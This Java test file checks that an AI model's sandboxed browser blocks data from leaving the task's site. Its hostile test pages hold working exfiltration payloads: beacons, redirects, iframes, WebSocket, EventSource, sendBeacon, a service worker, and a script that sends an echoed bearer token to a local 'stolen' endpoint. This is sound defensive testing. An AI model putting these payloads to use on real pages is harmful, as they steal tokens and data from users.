package dev.chaperone.browser;

import com.sun.net.httpserver.HttpServer;
import dev.chaperone.audit.AuditFile;
import dev.chaperone.audit.AuditRow;
import dev.chaperone.core.gate.AssistantAction;
import dev.chaperone.core.gate.Decision;
import dev.chaperone.core.identity.AssistantIdentity;
import dev.chaperone.core.identity.Human;
import dev.chaperone.core.identity.Origin;
import dev.chaperone.core.session.Attribution;
import dev.chaperone.core.session.Task;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;

import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;

import static dev.chaperone.browser.HostilePageTest.send;
import static dev.chaperone.browser.HostilePageTest.server;
import static dev.chaperone.browser.HostilePageTest.waitUntil;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hostile pages on the task's own site try every way out that was seen to work before the egress
 * guard (issue 7): an image beacon, a meta refresh, a 302 for the page and for an image, a style
 * sheet and a prefetch, an iframe, EventSource, WebSocket, a service worker, a page moving itself,
 * a beacon POST. Another origin ("elsewhere") counts every connection it gets, at the socket:
 * it must get none. Each case also says which part of the guard stopped it: the gate at the
 * browser's request hooks (REQUEST, NAVIGATE) or the egress proxy that every connection passes
 * (CONNECT). A read-only helper origin of the task is the positive control: its style sheet loads.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class EgressGuardTest {
    static final String TOKEN = "DPoP eyJhbGciOiJFUzI1NiJ9.task-token.sig";
    static HttpServer site;
    static HttpServer helper;
    static java.net.ServerSocket elsewhere;
    static final List<String> elsewhereSaw = new CopyOnWriteArrayList<>();
    static final List<String> helperSaw = new CopyOnWriteArrayList<>();
    static final List<String> siteSaw = new CopyOnWriteArrayList<>();
    static final List<String> blocked = new CopyOnWriteArrayList<>();
    static TestBrowser session;
    static IsolatedBrowser browser;

    @BeforeAll
    static void start() throws Exception {
        elsewhere = listenAndCountEveryConnection();
        String away = "http://127.0.0.1:" + elsewhere.getLocalPort();
        helper = server(ex -> {
            helperSaw.add(ex.getRequestURI().getPath());
            send(ex, 200, ex.getRequestURI().getPath().endsWith(".css") ? "text/css" : "text/html",
                    ex.getRequestURI().getPath().endsWith(".css") ? "p{color:rgb(1, 2, 3)}" : "<title>helper</title>");
        });
        String help = "http://127.0.0.1:" + helper.getAddress().getPort();
        site = server(ex -> {
            String path = ex.getRequestURI().getPath();
            siteSaw.add(path);
            switch (path) {
                case "/redirect" -> {
                    ex.getResponseHeaders().set("Location", away + "/redirect-landing?d=secret");
                    send(ex, 302, "text/plain", "");
                }
                case "/image-redirect" -> {
                    ex.getResponseHeaders().set("Location", away + "/image-hop?d=secret");
                    send(ex, 302, "text/plain", "");
                }
                case "/sw.js" -> send(ex, 200, "text/javascript", "self.addEventListener('fetch',function(){});");
                case "/beacon" -> send(ex, 200, "text/html", "<title>beacon</title><p>x</p><img src='" + away + "/beacon.png?d=secret'>");
                case "/meta" -> send(ex, 200, "text/html", "<title>meta</title><meta http-equiv=refresh content=\"0;url="
                        + away + "/meta-landing?d=secret\"><p>x</p>");
                case "/subresources" -> send(ex, 200, "text/html", "<title>sub</title><p>x</p>"
                        + "<link rel=stylesheet href='" + away + "/style.css?d=secret'>"
                        + "<link rel=prefetch href='" + away + "/prefetch?d=secret'>"
                        + "<link rel=stylesheet href='" + help + "/ok.css'>"
                        + "<img src='/image-redirect'>"
                        + "<iframe src='" + away + "/frame?d=secret'></iframe>");
                case "/streams" -> send(ex, 200, "text/html", "<title>streams</title><p>x</p><script>"
                        + "try{new EventSource('" + away + "/events?d=secret');}catch(e){}"
                        + "try{var ws=new WebSocket('ws://127.0.0.1:" + elsewhere.getLocalPort() + "/socket?d=secret');"
                        + "ws.onerror=function(){document.title='ws refused';};}catch(e){}"
                        + "navigator.sendBeacon('" + away + "/sendbeacon', 'secret');"
                        + "</script>");
                case "/worker" -> send(ex, 200, "text/html", "<title>worker</title><p>x</p><script>"
                        + "navigator.serviceWorker.register('/sw.js').then(function(){document.title='registered';},"
                        + "function(e){document.title='refused';});</script>");
                // A site that echoes request headers back into the page (a debug page, a misconfigured proxy).
                case "/echo" -> send(ex, 200, "text/html", "<title>echo</title><p id=t>"
                        + ex.getRequestHeaders().getFirst("Authorization") + "</p><script>"
                        + "var t=encodeURIComponent(document.getElementById('t').textContent);"
                        + "new Image().src='" + away + "/stolen.png?t='+t;"
                        + "fetch('" + away + "/stolen?t='+t,{mode:'no-cors'}).catch(function(){});"
                        + "try{new WebSocket('ws://127.0.0.1:" + elsewhere.getLocalPort() + "/stolen?t='+t);}catch(e){}"
                        + "</script>");
                case "/moves-itself" -> send(ex, 200, "text/html", "<title>moves</title><p>x</p><script>"
                        + "setTimeout(function(){location.href='" + help + "/moved?d=secret';},10);</script>");
                default -> send(ex, 200, "text/html", "<title>home</title><p>home</p>");
            }
        });
        Origin allowed = Origin.parse("http://127.0.0.1:" + site.getAddress().getPort());
        Task task = new Task("t", "Test task", allowed, allowed.toString(), Optional.empty(), Set.of("read"),
                List.of(Origin.parse(help)));
        Attribution who = new Attribution(new Human("alice", "Alice"), new AssistantIdentity("assistant-t", "A"), task, "s");
        // The task's token, DPoP-bound as the broker issues it, for the task's site only.
        session = TestBrowser.start(who, ScriptedPrompt.always(false), (method, url) -> Origin.of(url.toString())
                .filter(allowed::equals).isPresent() ? Map.of("Authorization", TOKEN, "DPoP", "proof-for-" + method)
                : Map.of(), allowed + "/", new BrowserListener() {
            @Override
            public void onBlocked(AssistantAction action, Decision decision) {
                blocked.add(action.kind() + " " + action.url() + (action.label().isEmpty() ? "" : " (" + action.label() + ")")
                        + " " + decision.code());
            }

            @Override
            public void onConnectionRefused(AssistantAction action, Decision decision) {
                onBlocked(action, decision);
            }
        });
        browser = session.browser;
    }

    /** A bare socket: it sees a connection whatever protocol it speaks (HTTP, a WebSocket handshake, a tunnel). */
    static java.net.ServerSocket listenAndCountEveryConnection() throws Exception {
        java.net.ServerSocket socket = new java.net.ServerSocket(0, 50, java.net.InetAddress.getLoopbackAddress());
        Thread t = new Thread(() -> {
            while (!socket.isClosed()) {
                try (java.net.Socket s = socket.accept()) {
                    s.setSoTimeout(2000);
                    byte[] buf = new byte[512];
                    int n = s.getInputStream().read(buf);
                    elsewhereSaw.add(n > 0 ? new String(buf, 0, n, java.nio.charset.StandardCharsets.ISO_8859_1).lines().findFirst()
                            .orElse("") : "(a connection that sent nothing)");
                } catch (Exception e) {
                    // Closed at the end of the test.
                }
            }
        });
        t.setDaemon(true);
        t.start();
        return socket;
    }

    @AfterAll
    static void stop() throws Exception {
        session.close();
        site.stop(0);
        helper.stop(0);
        elsewhere.close();
    }

    static String away() {
        return "http://127.0.0.1:" + elsewhere.getLocalPort();
    }

    static void load(String path) throws Exception {
        int before = browser.loadsFinished();
        browser.navigate("http://127.0.0.1:" + site.getAddress().getPort() + path);
        waitUntil("loaded " + path, () -> browser.loadsFinished() > before);
        // Late requests (an iframe, a stream's retry, a refresh) have a moment to try.
        Thread.sleep(700);
    }

    static void assertBlocked(String expected) throws Exception {
        waitUntil(expected + " was blocked; blocked so far: " + blocked, () -> blocked.stream().anyMatch(b -> b.startsWith(expected)));
    }

    @Test
    @Order(1)
    void anImageBeaconIsStoppedByTheGate() throws Exception {
        load("/beacon");
        assertBlocked("REQUEST " + away() + "/beacon.png?d=secret");
        assertEquals(List.of(), elsewhereSaw);
    }

    @Test
    @Order(2)
    void aMetaRefreshAndA302OffTheSiteAreStoppedAsNavigations() throws Exception {
        load("/meta");
        assertBlocked("NAVIGATE " + away() + "/meta-landing?d=secret");
        // The refused hop never loads: there is no load to wait for, only the refusal.
        browser.navigate("http://127.0.0.1:" + site.getAddress().getPort() + "/redirect");
        assertBlocked("NAVIGATE " + away() + "/redirect-landing?d=secret");
        assertEquals(List.of(), elsewhereSaw);
        assertTrue(browser.currentUrl().startsWith("http://127.0.0.1:" + site.getAddress().getPort()), browser.currentUrl());
    }

    @Test
    @Order(3)
    void styleSheetsPrefetchIframesAndAnImagesRedirectHopAreStoppedWhileTheHelpersStyleSheetLoads() throws Exception {
        load("/subresources");
        assertBlocked("REQUEST " + away() + "/style.css?d=secret");
        assertBlocked("REQUEST " + away() + "/frame?d=secret");
        assertBlocked("REQUEST " + away() + "/prefetch?d=secret");
        // Chromium asks the request hook again for a redirect hop, so the gate stops it there.
        assertBlocked("REQUEST " + away() + "/image-hop?d=secret");
        waitUntil("the read-only helper's style sheet loaded", () -> helperSaw.contains("/ok.css"));
        assertEquals(List.of(), elsewhereSaw);
        System.out.println("MEASURED blocked: " + blocked);
    }

    @Test
    @Order(4)
    void eventSourceWebSocketAndBeaconPostAreStopped() throws Exception {
        load("/streams");
        assertBlocked("REQUEST " + away() + "/events?d=secret");
        assertBlocked("REQUEST " + away() + "/sendbeacon");
        // A WebSocket handshake reaches no request hook and no DevTools event: only the proxy sees it.
        assertBlocked("CONNECT https://127.0.0.1:" + elsewhere.getLocalPort() + "/");
        waitUntil("the page saw its WebSocket refused", () -> browser.evaluate("document.title").get().equals("ws refused"));
        assertEquals(List.of(), elsewhereSaw);
    }

    @Test
    @Order(5)
    void aServiceWorkerIsUnregisteredAsSoonAsItRegistersAndTheRefusalIsAudited() throws Exception {
        load("/worker");
        String script = "http://127.0.0.1:" + site.getAddress().getPort() + "/sw.js";
        assertBlocked("REQUEST " + script + " (service worker) SERVICE_WORKER_REFUSED");
        // Each look asks for the registrations and reads the answer the previous look got.
        waitUntil("no worker is left registered", () -> browser.evaluate("(navigator.serviceWorker.getRegistrations()"
                + ".then(function(r){window.workers=r.length;}), String(window.workers))").get().equals("0"));
    }

    @Test
    @Order(6)
    void aPageCannotMoveItselfEvenToAHelperOrigin() throws Exception {
        load("/moves-itself");
        assertBlocked("NAVIGATE http://127.0.0.1:" + helper.getAddress().getPort() + "/moved?d=secret");
        assertTrue(helperSaw.stream().noneMatch(p -> p.equals("/moved")), helperSaw.toString());
    }

    @Test
    @Order(7)
    void aTokenTheSiteEchoesIntoThePageCannotBeCarriedOff() throws Exception {
        load("/echo");
        assertEquals(TOKEN, browser.evaluate("document.getElementById('t').textContent").get(),
                "the site echoed the token into the page (the hole this guards against)");
        assertBlocked("REQUEST " + away() + "/stolen.png?t=");
        assertBlocked("REQUEST " + away() + "/stolen?t=");
        // A WebSocket carrying it is refused at the egress proxy (above, by elsewhere seeing nothing at all).
        assertEquals(List.of(), elsewhereSaw, "the echoed token left the browser");
    }

    @Test
    @Order(8)
    void everyDenialIsInTheAuditAndElsewhereNeverSawAConnection() throws Exception {
        assertEquals(List.of(), elsewhereSaw, "another origin was reached");
        waitUntil("the denials reached the audit", () -> {
            try (AuditFile file = AuditFile.open(session.root.resolve("audit.db"))) {
                List<AuditRow> rows = file.rows();
                return rows.stream().anyMatch(r -> r.type().equals("ACTION_DECIDED") && r.event().contains("OUTSIDE_TASK_SITE"))
                        && rows.stream().anyMatch(r -> r.event().contains("SERVICE_WORKER_REFUSED"))
                        && rows.stream().anyMatch(r -> r.event().contains("PAGE_LEFT_TASK_SITE"));
            }
        });
    }

    /**
     * Chromium on its own reaches for no host outside the task either: before its Google features
     * were switched off (a preconnect to its search engine on every page, network time), each page
     * load here set off a refused connection to www.google.com.
     */
    @Test
    @Order(9)
    void theBrowserOnItsOwnReachesForNoOtherHost() {
        List<String> away = blocked.stream().filter(b -> b.startsWith("CONNECT ") && !b.startsWith("CONNECT https://127.0.0.1:"))
                .toList();
        assertEquals(List.of(), away, "Chromium reached for hosts outside the task on its own");
    }
}
